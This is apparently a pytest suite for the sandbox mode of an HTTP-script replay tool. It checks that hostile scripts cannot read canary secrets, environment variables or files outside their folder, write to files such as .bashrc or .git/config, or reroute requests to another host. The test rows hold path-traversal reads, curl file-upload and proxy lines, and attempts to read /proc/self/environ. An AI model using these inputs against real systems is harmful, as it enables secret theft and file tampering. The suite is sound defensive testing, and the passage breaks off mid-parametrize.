"""Hostile folders against `callbox replay --sandbox`: nothing from outside arrives anywhere, nothing is written outside.

Outside of the hostile folder there are canaries: in files, in the environment, in the user's home. A server writes
down what it is sent; a second one must never be sent anything at all.
"""

from __future__ import annotations

import base64
import os
import socket
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import NamedTuple

import pytest
from tests.support.server import Server

from callbox.cli.main import dispatch

CANARY = "CANARY-e5c1"
OUTSIDE: Mapping[str, str] = {
    "outside/secret.txt": CANARY,
    "outside/secret.json": f'{{"x": "{CANARY}"}}',
    "outside/lib.http": f"@x = {CANARY}\n### lib\nGET BASE/{CANARY}\n",
    "outside/query.graphql": f"query Q {{ {CANARY.replace('-', '_')} }}\n",
    "outside/m.js": f"export const x = '{CANARY}';\n",
    "outside/key.pem": CANARY,
    ".env": f"TOKEN={CANARY}\n",
    "dev.env": f"TOKEN={CANARY}\n",
    "http-client.env.json": f'{{"dev": {{"TOKEN": "{CANARY}"}}, "$shared": {{"ALSO": "{CANARY}"}}}}',
    "http-client.private.env.json": f'{{"dev": {{"OTHER": "{CANARY}"}}}}',
    "home/.netrc": f"machine 127.0.0.1 login ann password {CANARY}\n",
    "home/.config/callbox/config.toml": "netrc = true\n",
    "home/x.txt": CANARY,
}


class Link(NamedTuple):
    """A symbolic link in the hostile folder."""

    target: str


class Pipe(NamedTuple):
    """A named pipe in the hostile folder, which nobody writes to."""


Files = Mapping[str, "str | Link | Pipe"]
Attack = Callable[..., "tuple[int, str]"]


@pytest.fixture
def attack(tmp_path, monkeypatch, capfd, server, other) -> Attack:
    """Puts the files into `evil/` and replays them; the exit code and what was said. Looks for canaries and changes."""
    place(tmp_path, {name: text.replace("BASE", server.url) for name, text in OUTSIDE.items()})
    (tmp_path / "home/.netrc").chmod(0o600)
    monkeypatch.chdir(tmp_path)
    for name, value in {
        "HOME": str(tmp_path / "home"), "XDG_STATE_HOME": str(tmp_path / "state"), "NO_COLOR": "1", "LEAK": CANARY,
        "CALLBOX_VAR_leak": CANARY, "CALLBOX_SECRET_leaked": CANARY, "COLUMNS": "1000",
    }.items():  # fmt: skip
        monkeypatch.setenv(name, value)

    def go(files: Files, words: str = "evil/a.http --sandbox") -> tuple[int, str]:
        fill_variables = {
            name: made.replace("BASE", server.url).replace("OTHER", other.host) if isinstance(made, str) else made
            for name, made in files.items()
        }
        place(tmp_path / "evil", fill_variables)
        before = tree(tmp_path)
        words = words.replace("BASE", server.url).replace("OTHER", other.host)
        code = dispatch(["replay", *words.split()])
        said = capfd.readouterr()
        assert_nothing_leaked([*server.requests, *other.requests, said.out.encode(), said.err.encode()])
        after = tree(tmp_path)
        kept = {name: content for name, content in before.items() if not name.startswith("state")}
        assert {name: after.get(name) for name in kept} == kept, "something that was there has changed"
        added = [name for name in after if name not in before and not name.startswith(("state", "out"))]
        assert added == []
        return code, said.out + said.err

    return go


def place(folder: Path, files: Files) -> None:
    for name, made in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(made, Link):
            path.symlink_to(made.target)
        elif isinstance(made, Pipe):
            os.mkfifo(path)
        else:
            path.write_text(made)


def tree(folder: Path) -> dict[str, object]:
    """Every file by its path, with its content; of a link where it leads."""
    found: dict[str, object] = {}
    for path in folder.rglob("*"):
        facts = path.lstat()
        made: object = facts.st_size
        if path.is_symlink():
            made = os.readlink(path)
        elif path.is_file() and facts.st_size < 1_000_000:
            made = path.read_bytes()
        found[str(path.relative_to(folder))] = 0 if path.is_dir() and not path.is_symlink() else made
    return found


def assert_nothing_leaked(texts: list[bytes]) -> None:
    plain = CANARY.encode()
    coded = base64.b64encode(b"ann:" + plain)
    assert not [text for text in texts if plain in text or plain.replace(b"-", b"_") in text or coded in text]


MULTIPART = (
    "POST BASE/\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name=x\n\n"
)
POST = "POST BASE/\n\n"
OUT = "is outside of the script's folder"

READS = [
    # bodies
    ("above", {"a.http": POST + "< ../outside/secret.txt"}, OUT),
    ("absolute", {"a.http": POST + "< TMP/outside/secret.txt"}, OUT),
    ("home", {"a.http": POST + "< ~/x.txt"}, ""),
    ("dots-within", {"a.http": POST + "< ./x/../../outside/secret.txt", "x/y": ""}, OUT),
    ("backslashes", {"a.http": POST + "< ..\\outside\\secret.txt"}, ""),
    ("filled-in", {"a.http": POST + "<@ ../outside/secret.txt"}, OUT),
    ("filled-in-latin", {"a.http": POST + "<@latin1 ../outside/secret.txt"}, OUT),
    ("link", {"a.http": POST + "< l", "l": Link("../outside/secret.txt")}, OUT),
    ("link-filled-in", {"a.http": POST + "<@ l", "l": Link("../outside/secret.txt")}, OUT),
    ("link-of-a-link", {"a.http": POST + "< l", "l": Link("m"), "m": Link("../outside/secret.txt")}, OUT),
    ("linked-folder", {"a.http": POST + "< d/secret.txt", "d": Link("../outside")}, OUT),
    ("linked-folder-deep", {"a.http": POST + "< x/d/e/secret.txt", "x/d/e": Link("../../../outside")}, OUT),
    ("link-and-dots", {"a.http": POST + "< d/../outside/secret.txt", "d": Link("../home")}, OUT),
    ("link-to-a-circle", {"a.http": POST + "< l", "l": Link("l")}, "Cannot read"),
    ("path-of-a-variable", {"a.http": "@p = ../outside/secret.txt\n" + POST + "< {{p}}"}, OUT),
    ("path-of-a-dynamic", {"a.http": POST + "< {{$projectRoot}}/../outside/secret.txt"}, OUT),
    ("path-of-a-response", {"a.http": "### a\nGET BASE/path\n### b\n" + POST + "< {{a.response.body.$.p}}"}, "would choose which"),
    ("part", {"a.http": MULTIPART + "< ../outside/secret.txt\n--b--"}, OUT),
    ("part-link", {"a.http": MULTIPART + "< l\n--b--", "l": Link("../outside/secret.txt")}, OUT),
    ("second-file", {"a.http": POST + "x\n< ../outside/secret.txt\ny"}, OUT),
    ("graphql", {"a.http": "GRAPHQL BASE/\n\n< ../outside/query.graphql"}, OUT),
    ("graphql-named", {"a.http": POST + "gql Q < ../outside/query.graphql"}, OUT),
    ("graphql-variables", {"a.http": "GRAPHQL BASE/\n\nquery { a }\n\n< ../outside/secret.json"}, OUT),
    # what is not a file, and would be waited for or read for ever
    ("pipe", {"a.http": POST + "< p", "p": Pipe()}, "p is not an ordinary file"),
    ("pipe-filled-in", {"a.http": POST + "<@ p", "p": Pipe()}, "p is not an ordinary file"),
    ("device", {"a.http": POST + "< /dev/zero"}, OUT),
    ("linked-device", {"a.http": POST + "< z", "z": Link("/dev/zero")}, OUT),
    ("process", {"a.http": POST + "< /proc/self/environ"}, OUT),
    ("linked-process", {"a.http": POST + "< e", "e": Link("/proc/self/environ")}, OUT),
    ("descriptor", {"a.http": POST + "< /dev/fd/0"}, OUT),
    ("nul", {"a.http": POST + "< ../outside/secret.txt\0"}, ""),
    # what tools keep secrets in, beside the script
    ("git-folder", {"a.http": POST + "< .git/config", ".git/config": CANARY}, ".git/config is hidden"),
    ("npmrc", {"a.http": POST + "< x/.npmrc", "x/.npmrc": CANARY}, "x/.npmrc is hidden"),
    ("link-to-hidden", {"a.http": POST + "< l", "l": Link(".git/config"), ".git/config": CANARY}, "l is hidden"),
    # curl
    ("curl-data", {"a.http": "curl -d @../outside/secret.txt BASE/"}, OUT),
    ("curl-binary", {"a.http": "curl --data-binary @../outside/secret.txt BASE/"}, OUT),
    ("curl-json", {"a.http": "curl --json @l BASE/", "l": Link("../outside/secret.txt")}, OUT),
    ("curl-form", {"a.http": "curl -F x=@../outside/secret.txt BASE/"}, OUT),
    ("curl-form-text", {"a.http": "curl -F 'x=<../outside/secret.txt' BASE/"}, OUT),
    ("curl-pipe", {"a.http": "curl -d @p BASE/", "p": Pipe()}, "p is not an ordinary file"),
    # other scripts
    ("import", {"a.http": "import ../outside/lib.http\n### a\nGET BASE/{{x}}"}, OUT),
    ("import-directive", {"a.http": "# @import ../outside/lib.http\n### a\nGET BASE/{{x}}"}, OUT),
    ("import-absolute", {"a.http": "import TMP/outside/lib.http\n### a\nGET BASE/{{x}}"}, OUT),
    ("import-link", {"a.http": "import l.http\n### a\nGET BASE/{{x}}", "l.http": Link("../outside/lib.http")}, OUT),
    ("import-pipe", {"a.http": "import p.http\n### a\nGET BASE/", "p.http": Pipe()}, "p.http is not an ordinary file"),
    ("import-of-an-import", {"a.http": "import b.http\n### a\nGET BASE/", "b.http": "import ../outside/lib.http"}, OUT),
    ("run", {"a.http": "run ../outside/lib.http\n"}, "No such file"),
    ("run-link", {"a.http": "run l.http\n", "l.http": Link("../outside/lib.http")}, "No such file"),
    ("script-file", {"a.http": "GET BASE/\n\n> ../outside/m.js"}, "Scripts do not run in a sandbox"),
    ("module", {"a.http": "GET BASE/\n\n> {%\nimport {x} from '../outside/m.js';\n%}"}, "Scripts do not run"),
    ("module-pipe", {"a.http": "GET BASE/\n\n> {%\nimport './p.js';\n%}", "p.js": Pipe()}, "Scripts do not run"),
    ("script-above", {"a.http": "< {% client.log(process.env.LEAK) %}\nGET BASE/"}, "Scripts do not run in a sandbox"),
    ("script-that-breaks-out", {"a.http": "GET BASE/\n\n> {% } while (true) {} if (0) { %}"}, "Scripts do not run"),
    # environments
    ("parents-dotenv", {"a.http": "GET BASE/{{TOKEN}}"}, "No variable 'TOKEN'"),
    ("parents-dotenv-by-name", {"a.http": "GET BASE/{{$dotenv TOKEN}}"}, "No 'TOKEN' in a .env file"),
    ("parents-shared", {"a.http": "GET BASE/{{ALSO}}"}, "No variable 'ALSO'"),
    ("linked-dotenv", {"a.http": "GET BASE/{{TOKEN}}", ".env": Link("../.env")}, OUT),
    ("linked-dotenv-by-name", {"a.http": "GET BASE/{{$dotenv TOKEN}}", ".env": Link("../.env")}, OUT),
    ("dotenv-pipe", {"a.http": "GET BASE/{{TOKEN}}", ".env": Pipe()}, ".env is not an ordinary file"),
    ("linked-environments", {"a.http": "GET BASE/{{ALSO}}", "http-client.env.json": Link("../http-client.env.json")}, OUT),
    ("environments-pipe", {"a.http": "GET BASE/", "http-client.env.json": Pipe()}, "is not an ordinary file"),
    ("environment", {"a.http": "GET BASE/{{$processEnv LEAK}}"}, "The environment variable 'LEAK' is not read in a sandbox"),
    ("environment-dotted", {"a.http": "GET BASE/{{$env.LEAK}}"}, "The environment variable 'LEAK' is not read in a sandbox"),
    ("environment-computed", {"a.http": "@n = LEAK\nGET BASE/{{$processEnv %n}}"}, "is not read in a sandbox"),
    ("environment-tabbed", {"a.http": "GET BASE/{{ $processEnv\tLEAK }}"}, "is not read in a sandbox"),
    ("environment-in-a-variable", {"a.http": "@v = {{$env.LEAK}}\nGET BASE/\nX: {{v}}"}, "is not read in a sandbox"),
    ("environment-in-dotenv", {"a.http": "GET BASE/{{v}}", ".env": "v={{$env.LEAK}}"}, "is not read in a sandbox"),
    ("environment-in-a-file", {"a.http": POST + "<@ t", "t": "{{$processEnv LEAK}}"}, "is not read in a sandbox"),
    ("callbox-var", {"a.http": "GET BASE/{{leak}}"}, "No variable 'leak'"),
    ("callbox-secret", {"a.http": "GET BASE/{{leaked}}"}, "No variable 'leaked'"),
    ("prompt", {"a.http": "# @prompt LEAK\nGET BASE/{{LEAK}}"}, "There is no terminal to answer"),
    ("file-url", {"a.http": "GET file://TMP/outside/secret.txt"}, "Cannot use the scheme file"),
    ("input", {"a.http": "GET BASE/{{$input LEAK $value: {{$env.LEAK}}}}"}, ""),
]  # fmt: skip


@pytest.mark.parametrize("start", [".", "evil"])
@pytest.mark.parametrize(("files", "told"), [pytest.param(*row[1:], id=row[0]) for row in READS])
def test_nothing_is_read_from_outside(attack, server, tmp_path, monkeypatch, start, files, told) -> None:
    (tmp_path / "evil").mkdir()
    monkeypatch.chdir(tmp_path / start)
    server.json("/path", '{"p": "../outside/secret.txt"}')
    files = {
        name: made.replace("TMP", str(tmp_path)) if isinstance(made, str) else made for name, made in files.items()
    }
    code, said = attack(files, "evil/a.http --sandbox" if start == "." else "a.http --sandbox")

    assert told in said
    assert code == 2
    assert server.lines in ([], ["GET /path"])
    assert "Traceback" not in said


HIDING = [
    ("kept-response", {"a.http": "GET BASE/\n\n<> ../outside/secret.txt\n"}),
    ("netrc", {"a.http": "GET BASE/"}),
    ("netrc-of-a-literal-user", {"a.http": "GET http://ann@SERVER/"}),
    ("project-root", {"a.http": "GET BASE/{{$projectRoot}}"}),
]


@pytest.mark.parametrize("files", [pytest.param(row[1], id=row[0]) for row in HIDING])
def test_what_is_the_users_does_not_go_along(attack, server, tmp_path, files) -> None:
    files = {name: text.replace("SERVER", server.host) for name, text in files.items()}

    assert attack(files)[0] == 0
    assert len(server.requests) == 1
    assert str(tmp_path).encode() not in server.requests[0]


@pytest.mark.parametrize(
    ("words", "files"),
    [
        ("evil/l.http --sandbox", {"l.http": Link("../outside/lib.http")}),
        ("evil --sandbox", {"l.http": Link("../outside/lib.http")}),
        ("evil --sandbox", {"l.http": Link("../outside/secret.txt")}),
        ("evil/*/*.http --sandbox", {"d": Link("../outside")}),
        ("evil/** --sandbox", {"x/l.http": Link("../../outside/lib.http")}),
        ("evil --sandbox --list", {"l.http": Link("../outside/lib.http")}),
    ],
)
def test_no_script_is_a_link_that_leads_out(attack, server, words, files) -> None:
    code, said = attack(files, words)

    assert "is a link that leads out of evil" in said
    assert (code, server.requests) == (2, [])


@pytest.mark.parametrize("words", ["evil/** --sandbox", "evil/**/*.http --sandbox", "evil --sandbox"])
def test_a_search_for_scripts_goes_through_no_links(attack, server, words) -> None:
    files = {"a.http": "GET BASE/", "x": Link(".."), "y": Link(".."), "z/v": Link("/"), "z/w": Link("/")}

    assert attack(files, words)[0] == 0
    assert server.lines == ["GET /"]


@pytest.mark.parametrize("made", [Pipe(), Link("p"), Link("/dev/tty")])
def test_a_script_that_is_a_pipe_in_a_folder_is_not_waited_for(attack, made) -> None:
    code, said = attack({"a.http": made, "p": Pipe()})

    assert "is not an ordinary file" in said
    assert code == 2


def test_a_folder_that_the_user_names_may_be_a_link(attack, server, tmp_path) -> None:
    (tmp_path / "named").symlink_to("evil")
    attack({"a.http": POST + "< b", "b": "fine"}, "named/a.http --sandbox")

    assert server.bodies == [b"fine"]


def test_a_link_within_the_folder_is_followed(attack, server) -> None:
    attack({"a.http": POST + "< l", "l": Link("x/b"), "x/b": "fine"})

    assert server.bodies == [b"fine"]


@pytest.mark.parametrize("files", [{}, {".httpyac.json": '{"environments": {"$shared": {"b": "hidden"}}}'}])
def test_hidden_settings_are_not_read_and_do_not_end_the_run(attack, server, files) -> None:
    attack({"a.http": "@b = own\nGET BASE/{{b}}\n", **files})

    assert [request.split(b" ")[1] for request in server.requests] == [b"/own"]


def test_a_script_of_the_standard_input_reads_no_files(attack, server, tmp_path, monkeypatch) -> None:
    read, write = os.pipe()
    os.write(write, f"{POST}< outside/secret.txt".replace("BASE", server.url).encode())
    os.close(write)
    with os.fdopen(read) as stream:
        monkeypatch.setattr("sys.stdin", stream)
        code, said = attack({}, "- --sandbox")

    assert "has no folder, so it cannot read files in a sandbox" in said
    assert (code, server.requests) == (2, [])


def test_a_script_in_the_users_home_reads_no_files(attack, server, tmp_path) -> None:
    (tmp_path / "home/a.http").write_text(f"{POST}< x.txt".replace("BASE", server.url))
    code, said = attack({}, "home/a.http --sandbox")

    assert "cannot read files in a sandbox: this folder contains your home" in said
    assert (code, server.requests) == (2, [])


WRITES = [
    ("no-folder-was-named", ">> x.txt", "", "A script cannot write files in a sandbox"),
    ("over-no-folder", ">>! x.txt", "", "A script cannot write files in a sandbox"),
    ("above", ">> ../x.txt", "out", "is outside the folder for output"),
    ("absolute", ">> TMP/x.txt", "out", "is outside the folder for output"),
    ("far-above", ">>! a/../../../x.txt", "out", "is outside the folder for output"),
    ("backslashes", ">> ..\\x.txt", "out", "is outside the folder for output"),
    ("home", ">>! ~/x.txt", "out", "cannot be the name"),
    ("hidden", ">> .bashrc", "out", "'.bashrc' cannot be the name"),
    ("hidden-folder", ">>! .git/config", "out", "'.git' cannot be the name"),
    ("deep-hidden-folder", ">>! a/.github/w.yml", "out", "'.github' cannot be the name"),
    ("makefile", ">> Makefile", "out", "'Makefile' cannot be the name"),
    ("makefile-in-capitals", ">> MAKEFILE", "out", "'MAKEFILE' cannot be the name"),
    ("conftest", ">> a/conftest.py", "out", "'conftest.py' cannot be the name"),
    ("environments", ">> http-client.env.json", "out", "cannot be the name"),
    ("script", ">> b.http", "out", "'b.http' cannot be the name"),
    ("package", ">> package.json", "out", "cannot be the name"),
    ("bare-repository", ">> HEAD", "out", "'HEAD' cannot be the name"),
    ("invisible", ">> \u200b.git/config", "out", "cannot be the name"),
    ("device-of-another-system", ">> nul.txt", "out", "cannot be the name"),
    ("trailing-dot", ">> Makefile.", "out", "cannot be the name"),
    ("folder-itself", ">> .", "out", "is outside the folder for output"),
]


@pytest.mark.parametrize(("line", "folder", "told"), [pytest.param(*row[1:], id=row[0]) for row in WRITES])
def test_no_file_is_written_elsewhere(attack, server, tmp_path, line, folder, told) -> None:
    words = "evil/a.http --sandbox" + (f" --sandbox-output {folder}" if folder else "")
    code, said = attack({"a.http": f"GET BASE/\n\n{line.replace('TMP', str(tmp_path))}\n"}, words)

    assert told in said
    assert (code, server.requests) == (2, [])
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "path",
    ["../x.txt", "/tmp/x.txt", ".git/config", "Makefile", "a/../../x", "{{", ".{{x}}", "", "x\\u0000y", "\\u0000"],
)
def test_a_response_does_not_choose_a_path_outside(attack, server, tmp_path, path) -> None:
    server.json("/path", f'{{"p": "{path}"}}')
    script = "### a\nGET BASE/path\n### b\nGET BASE/\n\n>>! {{a.response.body.$.p}}\n"
    attack({"a.http": script}, "evil/a.http --sandbox --sandbox-output out")

    written = [name for name in tree(tmp_path) if name.startswith("out/")]
    assert written in ([], ["out/{{"])


def test_a_new_file_is_written_below_the_folder_for_output(attack, tmp_path) -> None:
    assert attack({"a.http": "GET BASE/\n\n>> x/b.txt\n"}, "evil/a.http --sandbox --sandbox-output out")[0] == 0
    assert (tmp_path / "out/x/b.txt").read_text() == "ok"
    assert (tmp_path / "out/x/b.txt").stat().st_mode & 0o077 == 0


def test_nothing_is_overwritten(attack, tmp_path) -> None:
    place(tmp_path, {"out/b.txt": "mine"})
    code, said = attack({"a.http": "GET BASE/\n\n>>! b.txt\n"}, "evil/a.http --sandbox --sandbox-output out")

    assert "out/b.txt exists already" in said
    assert (code, (tmp_path / "out/b.txt").read_text()) == (3, "mine")


@pytest.mark.parametrize("mark", [">>", ">>!"])
def test_no_link_in_the_folder_for_output_is_followed(attack, tmp_path, mark) -> None:
    place(tmp_path, {"out/b.txt": Link("../outside/new.txt"), "out/d": Link("../outside")})
    attack({"a.http": f"GET BASE/\n\n{mark} b.txt\n"}, "evil/a.http --sandbox --sandbox-output out")
    code, _ = attack({"a.http": f"GET BASE/\n\n{mark} d/new.txt\n"}, "evil/a.http --sandbox --sandbox-output out")

    assert code == 3
    assert not (tmp_path / "outside/new.txt").exists()


@pytest.mark.parametrize("words", ["--sandbox-output o", "--sandbox-output d/new", "--record o", "--record d/new"])
def test_a_folder_that_is_written_to_is_no_link_that_came_along(attack, server, tmp_path, monkeypatch, words) -> None:
    (tmp_path / "evil").mkdir()
    monkeypatch.chdir(tmp_path / "evil")
    files = {"a.http": "GET BASE/\n\n>> new.txt\n", "o": Link("../outside"), "d": Link("../outside")}
    code, said = attack(files, f"a.http --sandbox {words}")

    assert "is a link" in said
    assert (code, server.requests) == (2, [])


NAMED = [
    "--openapi l.json", "--openapi ABS/l.json", "--openapi d/l.json", "--openapi ABS/d/l.json", "--vars-file l.json",
    "--env-file l.json", "--private-env-file l.json", "--cookie-jar l.json", "--compare d", "--ca l.json",
    "--cert l.json", "--cert a.http,l.json", "--secrets-file l.json", "--secrets-file d/l.json",
]  # fmt: skip


@pytest.mark.parametrize("words", NAMED)
def test_a_file_that_the_command_line_names_is_no_link_that_came_along(
    attack, server, tmp_path, monkeypatch, words
) -> None:
    place(tmp_path, {"outside/l.json": f"{CANARY}: ["})
    (tmp_path / "evil").mkdir()
    monkeypatch.chdir(tmp_path / "evil")
    files = {"a.http": "GET BASE/\n", "l.json": Link("../outside/l.json"), "d": Link("../outside")}
    code, said = attack(files, f"a.http --sandbox {words.replace('ABS', str(tmp_path / 'evil'))}")

    assert "is a link" in said
    assert (code, server.requests) == (2, [])


@pytest.mark.parametrize("option", ["--report-json", "--report-tap", "--as-http"])
@pytest.mark.parametrize("path", ["o", "d/new", "ABS/d/new"])
def test_no_output_goes_through_a_link_of_the_folder_above_a_script(
    attack, server, tmp_path, monkeypatch, option, path
) -> None:
    place(tmp_path, {"evil/o": Link("../outside/f"), "evil/d": Link("../outside")})
    before = tree(tmp_path / "outside")
    monkeypatch.chdir(tmp_path / "evil")
    path = path.replace("ABS", str(tmp_path / "evil"))
    code, said = attack({"api/a.http": "GET BASE/\n"}, f"api/a.http --sandbox {option} {path}")

    assert "is a link" in said
    assert (code, server.requests) == (2, [])
    assert tree(tmp_path / "outside") == before


WRITTEN = ("o", "o/", "o/.", "o/./", "ABS/o", "ABS/o/", "ABS/o/.", "ABS/d/new", "ABS/d/./new", "ALIAS/o", "d/../x")


@pytest.mark.parametrize("option", ["--sandbox-output", "--record", "--report-json", "--as-curl"])
@pytest.mark.parametrize("path", WRITTEN)
def test_no_spelling_of_a_path_is_followed_through_a_link(attack, server, tmp_path, monkeypatch, option, path) -> None:
    place(tmp_path, {"alias": Link("evil")})
    before = tree(tmp_path / "outside")
    (tmp_path / "evil").mkdir()
    monkeypatch.chdir(tmp_path / "evil")
    path = path.replace("ABS", str(tmp_path / "evil")).replace("ALIAS", str(tmp_path / "alias"))
    files = {"a.http": "# @name n\nGET BASE/\n\n>> new.txt\n", "o": Link("../outside/f"), "d": Link("../outside")}
    if option in ("--sandbox-output", "--record"):
        files["o"] = Link("../outside")
    extra = "" if option != "--record" else " --sandbox-output out"
    code, said = attack(files, f"a.http --sandbox {option} {path}{extra}")

    assert "is a link" in said or "through a symbolic link" in said
    assert (code, server.requests) == (2, [])
    assert tree(tmp_path / "outside") == before


def test_a_record_is_not_written_through_a_link(attack, server, tmp_path) -> None:
    files = {"a.http": "### x\nGET BASE/", "snap/evil/a/x.txt": Link("../../../../outside/secret.txt")}
    code, said = attack(files, "evil/a.http --sandbox --record evil/snap")

    assert "is outside of evil/snap" in said
    assert code == 2


def test_a_recorded_response_is_not_read_through_a_link(attack, tmp_path) -> None:
    place(tmp_path, {"outside/snap.txt": f"HTTP 200\n\n{CANARY}"})
    files = {"a.http": "### x\nGET BASE/", "snap/evil/a/x.txt": Link("../../../../outside/snap.txt")}
    _, said = attack(files, "evil/a.http --sandbox --compare evil/snap --report-json out.json")

    assert "is outside of evil/snap" in said
    assert CANARY not in (tmp_path / "out.json").read_text()


ROUTES = [
    ("curl-proxy", {"a.http": "curl -x http://OTHER BASE/"}, "proxy"),
    ("curl-proxy-open", {"a.http": "### a\nGET BASE/\n### b\ncurl --proxy=http://OTHER BASE/{{a.response.body}}"}, "proxy"),
    ("curl-insecure", {"a.http": "curl -k https://OTHER/"}, "verify"),
    ("curl-ca", {"a.http": "curl --cacert ca.pem BASE/", "ca.pem": ""}, "ca"),
    ("curl-cert", {"a.http": "curl -E cert.pem BASE/", "cert.pem": ""}, "cert"),
    ("insecure", {"a.http": "# @insecure\nGET https://OTHER/"}, "verify"),
    ("no-reject", {"a.http": "# @no-reject-unauthorized\nGET https://OTHER/"}, "verify"),
    ("curl-word-of-a-response", {"a.http": "# @capture o = body $.o\nGET BASE/o\n###\ncurl -x {{o}} BASE/"}, "proxy"),
    ("imported", {"a.http": "import b.http\n# @ref x\nGET BASE/", "b.http": "# @name x\ncurl -x http://OTHER BASE/"}, "proxy"),
]  # fmt: skip


@pytest.mark.parametrize(("files", "option"), [pytest.param(*row[1:], id=row[0]) for row in ROUTES])
def test_no_file_changes_the_way_to_a_host(attack, server, other, files, option) -> None:
    server.json("/o", f'{{"o": "-x{other.url}"}}')
    code, said = attack(files)

    assert f"A script asks for '{option} " in said
    assert (code, other.requests) == (2, [])
    assert server.lines in ([], ["GET /o"])


@pytest.mark.parametrize("name", ["http-client.env.json", "http-client.private.env.json"])
@pytest.mark.parametrize("stage", ["dev", "$shared"])
@pytest.mark.parametrize("tls", ['{"verifyHostCertificate": false}', '{"clientCertificate": "c.pem"}'])
def test_no_environment_changes_the_way_to_a_host(attack, server, name, stage, tls) -> None:
    files = {"a.http": "GET BASE/", name: f'{{"dev": {{}}, "{stage}": {{"SSLConfiguration": {tls}}}}}', "c.pem": ""}
    code, said = attack(files, "evil/a.http --sandbox -e dev")

    assert "An environment file asks for '" in said
    assert (code, server.requests) == (2, [])


def test_a_way_that_the_user_names_is_his_own(attack, server, tmp_path) -> None:
    place(tmp_path, {"mine.json": '{"dev": {"SSLConfiguration": {"verifyHostCertificate": false}}}'})

    assert attack({"a.http": "GET BASE/"}, "evil/a.http --sandbox --env-file mine.json -e dev")[0] == 0
    assert attack({"a.http": "curl -k BASE/"}, "evil/a.http --sandbox --verify no")[0] == 0


HOSTS = [
    ("response", "### a\nGET BASE/next\n### b\nGET {{a.response.body.$.url}}"),
    ("capture", "# @capture next = body $.url\nGET BASE/next\n###\nGET {{next}}"),
    ("capture-over-a-variable", "@next = BASE/\n# @capture n = body $.url\nGET BASE/next\n###\n@x = {{n}}\nGET {{x}}"),
    ("capture-of-a-port", "# @capture port = body $.port\nGET BASE/next\n###\nGET http://127.0.0.1:{{port}}/"),
    ("host-header", "# @capture host = body $.host\nGET BASE/next\n###\nGET /x\nHost: {{host}}"),
    ("curl", "# @capture next = body $.url\nGET BASE/next\n###\ncurl {{next}}"),
    ("curl-option", "# @capture next = body $.url\nGET BASE/next\n###\ncurl --url {{next}}"),
    (
        "run-override",
        "@to = BASE/b\n### b\nGET {{to}}\n### a\n# @capture next = body $.url\nGET BASE/next\n###\nrun #b "
        "(@to={{next}})",
    ),
    ("loop", "### a\nGET BASE/next\n###\n# @loop for u of a.response.body.$.urls\nGET {{u}}"),
    ("redirect", "GET BASE/redirect"),
    ("redirect-307", "POST BASE/redirect-307\n\nbody"),
    ("redirect-without-a-scheme", "GET BASE/redirect-bare"),
    ("redirect-of-a-redirect", "GET BASE/redirect-twice"),
    ("dynamic", "GET http://127.0.0.{{$random.integer(1, 2)}}:PORT/"),
    ("glued-userinfo", "# @capture host = body $.glued\nGET BASE/next\n###\nGET http://SERVER{{host}}/"),
    ("glued-port", "# @capture port = body $.digit\nGET BASE/next\n###\nGET http://127.0.0.1:{{port}}SHORT/"),
    ("asterisk", "# @capture host = body $.host\nGET BASE/next\n###\nOPTIONS *\nHost: {{host}}"),
    ("dotenv-of-a-response", "# @capture b = body $.url\nGET BASE/next\n###\n@base = {{b}}\nGET {{base}}"),
    ("userinfo", "# @capture host = body $.host\nGET BASE/next\n###\nGET http://SERVER@{{host}}/"),
]


@pytest.mark.parametrize("script", [pytest.param(row[1], id=row[0]) for row in HOSTS])
def test_no_response_decides_on_the_host(attack, server, other, script) -> None:
    port = other.host.partition(":")[2]
    server.json(
        "/next",
        f'{{"url": "{other.url}/", "host": "{other.host}", "o": "--url={other.url}", "glued": "@{other.host}", "digit": "{port[0]}", "port": {port}, "urls": ["{other.url}/"]}}',
    )
    for path, status, to in [
        ("/redirect", "302 Found", other.url), ("/redirect-307", "307 Temporary Redirect", other.url),
        ("/redirect-bare", "302 Found", f"//{other.host}/"), ("/redirect-twice", "302 Found", "/redirect"),
    ]:  # fmt: skip
        server.json(path, "{}", f"Location: {to}", status=status)
    code, said = attack(
        {"a.http": script.replace("PORT", port).replace("SHORT", port[1:]).replace("SERVER", server.host)}
    )

    is_refused = "are not allowed: neither the command line nor the script names this host" in said
    assert is_refused or "would change the host of this URL" in said
    assert code in (1, 2, 3)
    assert other.requests == []


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("GET http://OTHER/", ""),
        ("@base = http://OTHER\nGET {{base}}/", ""),
        ("GET {{base}}/", "--var base=http://OTHER"),
        ("GET /\nHost: {{host}}", "--var host=OTHER"),
        ("curl http://OTHER/", ""),
        ("curl -F a=b http://OTHER/", ""),
        ("GET {{base}}/", "-e dev"),
        ("GET BASE/redirect", "--allow-host OTHER"),
        ("GET BASE/redirect", "--allow-host 127.0.0.1"),
        ("GET BASE/redirect\n###\nGET http://OTHER/ok", ""),
        ("GET BASE/redirect", "--var api=http://OTHER"),
        ("# @loop for host of [\"OTHER\"]\nGET http://{{host}}/", ""),
        ("@to = BASE/b\n### b\nGET {{to}}\n###\nrun #b (@to=http://OTHER/)", ""),
        ("# @loop for host of [\"OTHER\"]\nGET /\nHost: {{host}}", ""),
        ("# @loop for host of [\"OTHER\"]\ncurl http://{{host}}/", ""),
        ("GET {{host}}/", "--var host=OTHER"),
        ("# @prompt to\nGET {{to}}/", "--prompt to=http://OTHER"),
        ("GET {{$env.API_HOST}}/", "--allow-env API_HOST"),
    ],
)  # fmt: skip
def test_hosts_of_the_files_and_of_the_command_line_are_sent_to(
    attack, server, other, monkeypatch, script, words
) -> None:
    monkeypatch.setenv("API_HOST", other.url)
    server.json("/redirect", "{}", f"Location: {other.url}/ok", status="302 Found")
    environments = '{"dev": {"base": "http://OTHER"}}'
    _, said = attack({"a.http": script, "http-client.env.json": environments}, f"evil/a.http --sandbox {words}")

    assert other.requests, said


def test_an_environment_variable_is_read_where_it_is_allowed(attack, server, monkeypatch) -> None:
    monkeypatch.setenv("FINE", "fine")
    monkeypatch.setenv("CALLBOX_VAR_good", "good")
    words = "evil/a.http --sandbox --allow-env FINE --allow-env CALLBOX_VAR_good"
    attack({"a.http": "GET BASE/{{$processEnv FINE}}/{{$env.FINE}}/{{good}}"}, words)

    assert server.lines == ["GET /fine/fine/good"]


@pytest.mark.parametrize(
    ("words", "told"),
